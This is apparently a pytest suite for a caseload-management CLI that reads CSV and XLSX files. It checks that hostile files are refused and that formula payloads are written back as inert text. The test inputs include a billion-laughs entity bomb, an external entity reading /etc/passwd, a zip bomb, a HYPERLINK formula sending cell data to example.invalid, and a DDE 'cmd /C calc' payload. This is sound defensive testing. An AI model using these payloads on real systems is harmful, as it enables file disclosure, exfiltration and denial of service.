"""Hostile files for `caseload tier`, `caseload allocate`, `caseload supervision` and
`caseload forecast`: each is refused with a message naming the file (and the row and column
where there is one), exit status 2, and nothing written; or, where the file is merely odd, read
as a spreadsheet would read it."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from caseload.cli import main
from caseload_engine import complexity, tabular
from caseload_engine.tabular import MAX_COLUMNS, MAX_ROWS, read_table

FACTORS = [factor.name for factor in complexity.default_model().factors]
PRACTITIONERS = "practitioner_id,team,role\nP1,North,social_worker\n"
SUPERVISED = "practitioner_id,role,started\nP1,social_worker,2026-01-05\n"


@dataclass(frozen=True)
class Command:
    """One command, with the header and a good row of the file it is given."""

    name: str
    header: list[str]
    row: list[str]

    def run(self, tmp_path: Path, source: Path) -> int:
        if self.name == "tier":
            return main(["tier", str(source), "--out", str(tmp_path / "out.csv")])
        if self.name == "supervision":
            staff = tmp_path / "staff.csv"
            staff.write_text(SUPERVISED, encoding="utf-8")
            arguments = ["--practitioners", str(staff), "--sessions", str(source)]
            return main(["supervision", *arguments, "--out", str(tmp_path / "out.csv")])
        if self.name == "forecast":
            return main(["forecast", str(source), "--out", str(tmp_path / "out.csv")])
        staff = tmp_path / "staff.csv"
        staff.write_text(PRACTITIONERS, encoding="utf-8")
        arguments = ["--cases", str(source), "--practitioners", str(staff)]
        return main(["allocate", *arguments, "--out", str(tmp_path / "out.csv")])


COMMANDS = [
    Command("tier", FACTORS, ["2"] * len(FACTORS)),
    Command("allocate", ["case_id", "team", "tier"], ["C1", "North", "2"]),
    Command("supervision", ["practitioner_id", "date", "minutes"], ["P1", "2026-10-01", "90"]),
    Command("forecast", ["team", "week", "requests"], ["North", "2026-10-05", "12"]),
]


def _csv(path: Path, *lines: list[str]) -> Path:
    path.write_text("".join(",".join(line) + "\n" for line in lines), encoding="utf-8")
    return path


def _workbook(path: Path, sheet: Callable[[bytes], bytes], header: list[str]) -> Path:
    """An XLSX file saved by openpyxl with its first sheet's XML rewritten, as a program
    other than a spreadsheet (or an attacker) might write it."""
    workbook = openpyxl.Workbook()
    workbook.active.append(header)
    saved = io.BytesIO()
    workbook.save(saved)
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(path, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = sheet(data)
            target.writestr(member, data)
    return path


def _data_row(cells: str) -> Callable[[bytes], bytes]:
    """A second row of raw cells added to the sheet."""
    return lambda xml: xml.replace(
        b"</sheetData>", f'<row r="2">{cells}</row></sheetData>'.encode()
    )


def _inline(values: list[str], row: int = 2) -> str:
    return "".join(
        f'<c r="{openpyxl.utils.get_column_letter(column)}{row}" t="inlineStr"><is><t>{value}'
        "</t></is></c>"
        for column, value in enumerate(values, 1)
    )


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        f'<!ENTITY {chr(98 + level)} "{("&" + chr(97 + level) + ";") * 10}">'.encode()
        for level in range(8)
    )
    + b"]>"
)


# Each: how to make the file from the command's header and a good row, and the first line of
# the refusal as a pattern, where {file} stands for the file's path.
Hostile = Callable[[Path, Command], Path]
_TOO_MANY_ROWS = (
    r"{file}: more than 100,000 rows below the header \(row 100,002 and beyond\), the most "
    "caseload reads: split it into smaller files"
)
_ENTITIES = (
    "{file} is not a readable XLSX workbook: it declares XML entities, which no "
    "spreadsheet writes and caseload refuses"
)
REFUSED: dict[str, tuple[Hostile, str]] = {
    "csv-empty": (
        lambda folder, command: _csv(folder / "in.csv"),
        "{file} is empty: its first row should hold the column headers",
    ),
    "csv-blank-header": (
        lambda folder, command: _csv(folder / "in.csv", [], command.header, command.row),
        "{file}: row 1 should hold the column headers but is blank",
    ),
    "csv-not-utf8": (
        lambda folder, command: _write(
            folder / "in.csv",
            f"{','.join(command.header)}\n{','.join(command.row)}\nZo\xeb\n".encode("cp1252"),
        ),
        r"{file}: line 3 is not UTF-8 text \(character 3\): save it from the spreadsheet as "
        "'CSV UTF-8'",
    ),
    "csv-duplicate-header": (
        lambda folder, command: _csv(
            folder / "in.csv", [*command.header, command.header[1].upper()], command.row
        ),
        r"{file}: the header '[A-Z_ ]+' is used twice \(columns B and [D-G]\)",
    ),
    "csv-header-too-wide": (
        lambda folder, command: _csv(
            folder / "in.csv",
            command.header + [f"x{i}" for i in range(MAX_COLUMNS + 1 - len(command.header))],
        ),
        r"{file}: row 1 has 16,385 columns; caseload reads at most 16,384 \(up to column XFD\)",
    ),
    "csv-row-too-wide": (
        lambda folder, command: _csv(
            folder / "in.csv", command.header, command.row + ["1"] * 20_000
        ),
        r"{file}: row 2 has 20,00\d columns; caseload reads at most 16,384 \(up to column XFD\)",
    ),
    "csv-value-without-header": (
        lambda folder, command: _csv(folder / "in.csv", command.header, [*command.row, "", "x"]),
        r"{file}: column [E-H] has values but no header \(row 2 has one\)",
    ),
    "csv-too-many-rows": (
        lambda folder, command: _csv(
            folder / "in.csv", command.header, *[command.row] * (MAX_ROWS + 1)
        ),
        _TOO_MANY_ROWS,
    ),
    "csv-too-large": (
        lambda folder, command: _sparse(folder / "in.csv", tabular.MAX_FILE_BYTES + 1),
        "{file} is larger than 20 MB, the most caseload reads: split it into smaller files",
    ),
    "xlsx-empty": (
        lambda folder, command: _workbook(folder / "in.xlsx", lambda xml: xml, []),
        "{file} is empty: its first row should hold the column headers",
    ),
    "xlsx-duplicate-header": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            _data_row(_inline(command.row)),
            [*command.header, command.header[1].upper()],
        ),
        r"{file}: the header '[A-Z_ ]+' is used twice \(columns B and [D-G]\)",
    ),
    "xlsx-not-utf8": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            lambda xml: xml.replace(
                b"</sheetData>",
                b'<row r="2"><c r="A2" t="inlineStr"><is><t>Zo\xeb</t></is></c></row></sheetData>',
            ),
            command.header,
        ),
        r"{file} is not a readable XLSX workbook: its XML is damaged \(not well-formed "
        r"\(invalid token\): line 1, column \d+\), after row 1",
    ),
    "xlsx-not-a-zip": (
        lambda folder, command: _csv(folder / "in.xlsx", command.header, command.row),
        "{file} is not a readable XLSX workbook",
    ),
    "xlsx-bad-xml": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            lambda xml: _data_row(_inline(command.row))(xml).replace(b"</worksheet>", b""),
            command.header,
        ),
        r"{file} is not a readable XLSX workbook: its XML is damaged \(no element found: "
        r"line 1, column \d+\), after row 2",
    ),
    "xlsx-billion-laughs": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            lambda xml: _LAUGHS + _data_row(_inline(["&i;"]))(xml),
            command.header,
        ),
        _ENTITIES,
    ),
    "xlsx-external-entity": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            lambda xml: (
                b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                + _data_row(_inline(["&x;"]))(xml)
            ),
            command.header,
        ),
        _ENTITIES,
    ),
    "xlsx-formula-without-value": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            _data_row(_inline(command.row[:2]) + '<c r="C2"><f>1+1</f></c>'),
            command.header,
        ),
        "{file}: row 2, column C holds a formula with no saved value: open the file in a "
        "spreadsheet and save it, or paste values only",
    ),
    "xlsx-infinite-number": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            _data_row(_inline(command.row[:2]) + '<c r="C2"><v>1e99999999</v></c>'),
            command.header,
        ),
        "{file}: row 2, column C holds a number too large to read",
    ),
    "xlsx-too-many-columns": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            # No cell references: openpyxl counts on, past Excel's last column and past ZZZ.
            _data_row('<c t="inlineStr"><is><t>1</t></is></c>' * 18_300),
            command.header,
        ),
        r"{file}: row 2 has 18,300 columns; caseload reads at most 16,384 \(up to column XFD\)",
    ),
    "xlsx-far-row": (
        lambda folder, command: _workbook(
            folder / "in.xlsx",
            lambda xml: xml.replace(
                b"</sheetData>",
                f'<row r="999999999">{_inline(["1"], 999_999_999)}</row></sheetData>'.encode(),
            ),
            command.header,
        ),
        _TOO_MANY_ROWS,
    ),
}


@pytest.mark.parametrize("hostile", REFUSED)
@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command.name)
def test_a_hostile_file_is_refused_by_name_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: Command, hostile: str
) -> None:
    make, expected = REFUSED[hostile]
    source = make(tmp_path, command)
    assert command.run(tmp_path, source) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    first, *_ = captured.err.splitlines()
    assert re.fullmatch(expected.format(file=re.escape(str(source))), first), first
    assert "Traceback" not in captured.err
    # No output, and no temporary file left beside it.
    assert {path.name for path in tmp_path.iterdir()} <= {source.name, "staff.csv"}


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The limit lowered, so that the test need not pack 256 MB.
    monkeypatch.setattr(tabular, "MAX_UNPACKED_BYTES", 2**20)
    tier = COMMANDS[0]
    source = _workbook(
        tmp_path / "in.xlsx", _data_row(_inline(["1"] * 6) + " " * 2**20), tier.header
    )
    assert tier.run(tmp_path, source) == 2
    assert capsys.readouterr().err == (
        f"{source} unpacks to more than 1 MB, the most caseload reads: split it into smaller "
        "files\n"
    )
    assert not (tmp_path / "out.csv").exists()


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _sparse(path: Path, size: int) -> Path:
    with path.open("wb") as file:
        file.truncate(size)  # takes no disk space: only the size is looked at
    return path


# -- odd files that are read as a spreadsheet reads them ----------------------------------------

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("out", ["out.csv", "out.xlsx"])
def test_tier_writes_formulas_it_was_given_as_text_that_never_runs(
    tmp_path: Path, out: str
) -> None:
    tier = COMMANDS[0]
    source = _csv(
        tmp_path / "in.csv",
        ["Person", *tier.header, "@Notes"],
        [ATTACK.replace(",", ";"), *tier.row, DDE],
        ["-12", *tier.row, "+44 20 7946 0000"],
    )
    assert main(["tier", str(source), "--out", str(tmp_path / out)]) == 0
    if out.endswith(".csv"):
        written = read_table(tmp_path / out)
        assert written.columns[-4:] == ("'@Notes", "total", "tier", "points")
        first, second = (list(row.values.values()) for row in written.rows)
        assert (first[0], first[7]) == ("'" + ATTACK.replace(",", ";"), "'" + DDE)
        # A negative number stays one; a telephone number is not a sum.
        assert (second[0], second[7]) == ("-12", "'+44 20 7946 0000")
    else:
        sheet = openpyxl.load_workbook(tmp_path / out).worksheets[0]
        cells = [sheet["A2"], sheet["H2"], sheet["H1"]]
        assert [(cell.value, cell.data_type) for cell in cells] == [
            (ATTACK.replace(",", ";"), "s"),
            (DDE, "s"),
            ("@Notes", "s"),
        ]


def test_allocate_writes_case_ids_that_look_like_formulas_as_text(tmp_path: Path) -> None:
    source = _csv(
        tmp_path / "in.csv",
        ["case_id", "team", "tier"],
        ["=1+1", "North", "1"],
        [DDE, "North", "1"],
    )
    assert COMMANDS[1].run(tmp_path, source) == 0
    proposal = read_table(tmp_path / "out.csv")
    assert [row.values["case_id"] for row in proposal.rows] == ["'=1+1", "'" + DDE]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command.name)
def test_excels_byte_order_mark_and_a_header_only_file(
    tmp_path: Path, command: Command, capsys: pytest.CaptureFixture[str]
) -> None:
    source = _write(tmp_path / "in.csv", (",".join(command.header) + "\n").encode("utf-8-sig"))
    # Nothing to do is not an error: the output is the header alone (for supervision, each
    # practitioner with no sessions).
    assert command.run(tmp_path, source) == 0
    rows = read_table(tmp_path / "out.csv").rows
    if command.name == "supervision":
        assert [row.values["sessions_counted"] for row in rows] == ["0"]
    else:
        assert rows == ()
    assert capsys.readouterr().err == ""


def test_a_formula_saved_with_its_value_is_read_as_the_value(tmp_path: Path) -> None:
    cells = '<c r="A2"><f>1+1</f><v>2</v></c><c r="B2" t="str"><f>""</f><v></v></c>'
    source = _workbook(tmp_path / "in.xlsx", _data_row(cells), ["Risk", "Notes"])
    assert [dict(row.values) for row in read_table(source).rows] == [{"Risk": "2", "Notes": ""}]


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (
            "capacity_points",
            "1e18",
            "capacity_points must be a number of 0 or more, at most "
            "10,000, with at most one decimal place, not '1e18'",
        ),
        (
            "capacity_points",
            "1e99999999",
            "capacity_points must be a number of 0 or more, at "
            "most 10,000, with at most one decimal place, not '1e99999999'",
        ),
        (
            "current_points",
            "-1e99999999",
            "current_points must be a number of 0 or more, at "
            "most 10,000, with at most one decimal place, not '-1e99999999'",
        ),
        # Arabic-Indic digits, which Python's Decimal reads as 0.5.
        ("fte", "\u0660.\u0665", "fte must be a number above 0 and at most 1, not '\u0660.\u0665'"),
    ],
)
def test_allocate_refuses_numbers_it_cannot_compute_with(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, value: str, message: str
) -> None:
    staff = tmp_path / "staff.csv"
    _csv(
        staff, ["practitioner_id", "team", "role", column], ["P1", "North", "social_worker", value]
    )
    cases = _csv(tmp_path / "cases.csv", ["case_id", "team", "tier"], ["C1", "North", "1"])
    out = tmp_path / "out.csv"
    arguments = ["--cases", str(cases), "--practitioners", str(staff), "--out", str(out)]
    assert main(["allocate", *arguments]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f'{staff}: row 2, column "{column}": {message}',
        "1 problem; nothing written.",
    ]
    assert not out.exists()


@pytest.mark.parametrize("tier", ["²", "1e99999999", "9" * 5000])
def test_allocate_refuses_tiers_that_are_not_plain_digits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], tier: str
) -> None:
    source = _csv(tmp_path / "in.csv", ["case_id", "team", "tier"], ["C1", "North", tier])
    assert COMMANDS[1].run(tmp_path, source) == 2
    assert capsys.readouterr().err.splitlines()[0] == (
        f'{source}: row 2, column "tier": tier must be one of 1, 2, 3, not {tier!r}'
    )
    assert not (tmp_path / "out.csv").exists()


def test_a_short_file_with_a_wide_header_is_refused_before_it_fills_memory(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """1.5 MB: 16,007 headers and 100,000 short rows, which as full rows took 13.7 GB."""
    tier = COMMANDS[0]
    header = [*tier.header, *(f"c{i}" for i in range(16_000))]
    source = _csv(tmp_path / "in.csv", header, *[tier.row] * 1_000)
    assert tier.run(tmp_path, source) == 2
    assert capsys.readouterr().err == (
        f"{source}: more than 5,000,000 cells (16,006 columns, row 314), the most caseload "
        "reads: split it into smaller files\n"
    )


def test_a_formula_is_found_whatever_the_sheets_namespace_prefix(tmp_path: Path) -> None:
    def prefixed(xml: bytes) -> bytes:
        cells = _data_row('<c r="A2"><f>1+1</f></c>')(xml).replace(b'xmlns="', b'xmlns:x="')
        return re.sub(rb"<(/?)(\w)", rb"<\1x:\2", cells)

    source = _workbook(tmp_path / "in.xlsx", prefixed, ["Risk"])
    with pytest.raises(tabular.TableError, match="row 2, column A holds a formula with no saved"):
        read_table(source)
